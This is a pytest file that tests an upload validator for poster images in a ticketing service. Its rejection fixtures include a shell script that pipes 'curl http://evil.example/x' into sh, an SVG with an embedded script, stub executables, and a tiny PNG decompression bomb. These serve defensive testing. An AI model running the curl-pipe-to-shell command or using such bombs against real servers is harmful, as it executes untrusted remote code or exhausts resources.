"""Poster sniffing: real images pass by their content; anything else is a 415 or a 413."""

from __future__ import annotations

import io
import os
import struct
import warnings
import zlib

import pytest
from PIL import Image

from tiketi.kernel.errors import DomainError
from tiketi.services.catalog.domain.images import (
    MAX_IMAGE_BYTES,
    ImageInfo,
    ImageTooLarge,
    UnsupportedImage,
    sniff_image,
)


def encode(
    fmt: str, size: tuple[int, int] = (120, 80), mode: str = "RGB", **options: object
) -> bytes:
    """A real image with noisy pixels, so the decoder has entropy-coded data to chew through."""
    width, height = size
    channels = len(mode)
    image = Image.frombytes(mode, size, os.urandom(width * height * channels))
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload))
    )


def png_header_only(width: int, height: int) -> bytes:
    """A well-formed PNG that claims huge dimensions over a few bytes of data: a bomb."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    ("fmt", "kind", "content_type", "extension"),
    [
        ("JPEG", "jpeg", "image/jpeg", "jpg"),
        ("PNG", "png", "image/png", "png"),
        ("WEBP", "webp", "image/webp", "webp"),
    ],
)
def test_real_images_are_accepted_with_their_kind_and_size(
    fmt: str, kind: str, content_type: str, extension: str
) -> None:
    info = sniff_image(encode(fmt, (120, 80)))

    assert info == ImageInfo(
        kind=kind,  # type: ignore[arg-type]
        width=120,
        height=80,
        content_type=content_type,
        extension=extension,
    )


@pytest.mark.parametrize(
    ("fmt", "mode", "kind"),
    [
        ("PNG", "RGBA", "png"),
        ("PNG", "L", "png"),
        ("JPEG", "L", "jpeg"),
        ("WEBP", "RGBA", "webp"),
    ],
)
def test_other_pixel_modes_are_accepted(fmt: str, mode: str, kind: str) -> None:
    assert sniff_image(encode(fmt, (40, 30), mode)).kind == kind


def test_a_multi_picture_jpeg_from_a_camera_is_a_jpeg() -> None:
    image = Image.new("RGB", (64, 48), (10, 20, 30))
    out = io.BytesIO()
    image.save(out, "MPO", save_all=True, append_images=[image])

    info = sniff_image(out.getvalue())

    assert (info.kind, info.content_type, info.width, info.height) == ("jpeg", "image/jpeg", 64, 48)


def test_the_content_decides_not_the_name_a_png_called_poster_jpg_is_a_png() -> None:
    # The client said "poster.jpg" and "image/jpeg"; sniff_image never sees either.
    info = sniff_image(encode("PNG"))

    assert (info.kind, info.content_type, info.extension) == ("png", "image/png", "png")


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)
HTML = b"<!doctype html><html><body>not an image</body></html>"
WAV = b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 32


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(ELF, id="elf-executable"),
        pytest.param(PE, id="windows-exe"),
        pytest.param(SCRIPT, id="shell-script"),
        pytest.param(SVG, id="svg"),
        pytest.param(HTML, id="html"),
        pytest.param(WAV, id="riff-but-not-webp"),
        pytest.param(encode("GIF", mode="P"), id="gif"),
        pytest.param(encode("BMP"), id="bmp"),
        pytest.param(encode("TIFF"), id="tiff"),
    ],
)
def test_anything_but_jpeg_png_webp_is_unsupported(data: bytes) -> None:
    with pytest.raises(UnsupportedImage) as caught:
        sniff_image(data)

    error = caught.value
    assert isinstance(error, DomainError)
    assert (error.code, error.status) == ("UNSUPPORTED_MEDIA_TYPE", 415)
    assert "JPEG, PNG or WebP" in error.message


def test_an_empty_file_is_unsupported_and_says_so() -> None:
    with pytest.raises(UnsupportedImage) as caught:
        sniff_image(b"")

    assert caught.value.status == 415
    assert "empty" in caught.value.message
    assert caught.value.details == {"file": "empty file"}


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("keep", [0.5, 0.97])
def test_a_truncated_image_is_unsupported(fmt: str, keep: float) -> None:
    data = encode(fmt, (200, 150))

    with pytest.raises(UnsupportedImage):
        sniff_image(data[: int(len(data) * keep)])


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"\xff\xd8\xff" + b"\x00" * 500, id="jpeg-magic-then-junk"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + os.urandom(500), id="png-magic-then-junk"),
        pytest.param(b"RIFF\x00\x10\x00\x00WEBP" + os.urandom(500), id="webp-magic-then-junk"),
        pytest.param(b"\xff\xd8\xff" + encode("PNG")[3:], id="jpeg-magic-png-body"),
        pytest.param(ELF + encode("PNG"), id="executable-with-an-image-appended"),
    ],
)
def test_magic_bytes_alone_are_not_enough(data: bytes) -> None:
    with pytest.raises(UnsupportedImage):
        sniff_image(data)


def test_a_png_with_a_corrupted_chunk_is_unsupported() -> None:
    data = bytearray(encode("PNG", (100, 100)))
    data[len(data) // 2] ^= 0xFF  # inside IDAT: its CRC no longer matches

    with pytest.raises(UnsupportedImage):
        sniff_image(bytes(data))


def test_six_mebibytes_is_too_large_whatever_it_is() -> None:
    data = encode("JPEG") + b"\x00" * (6 * 1024 * 1024)

    with pytest.raises(ImageTooLarge) as caught:
        sniff_image(data)

    assert (caught.value.code, caught.value.status) == ("PAYLOAD_TOO_LARGE", 413)
    assert caught.value.details["max_bytes"] == MAX_IMAGE_BYTES


def test_the_byte_limit_is_inclusive() -> None:
    # Bytes after a JPEG's end marker are ignored by decoders, which makes an exact-size image.
    image = encode("JPEG")
    exactly = image + b"\x00" * (MAX_IMAGE_BYTES - len(image))

    assert sniff_image(exactly).kind == "jpeg"
    with pytest.raises(ImageTooLarge):
        sniff_image(exactly + b"\x00")


@pytest.mark.parametrize(
    ("width", "height"),
    [
        pytest.param(8_000, 6_000, id="48MP-over-our-cap"),
        pytest.param(10_000, 10_000, id="100MP-where-pillow-only-warns"),
        pytest.param(100_000, 100_000, id="10GP-where-pillow-refuses"),
    ],
)
def test_a_decompression_bomb_is_refused_before_decoding(width: int, height: int) -> None:
    bomb = png_header_only(width, height)
    assert len(bomb) < 200  # tiny on disk, gigabytes once decoded

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # nothing may leak out as a warning either
        with pytest.raises(ImageTooLarge) as caught:
            sniff_image(bomb)

    assert caught.value.status == 413
    assert "megapixels" in caught.value.message
    assert caught.value.details["file"] == "too many pixels"
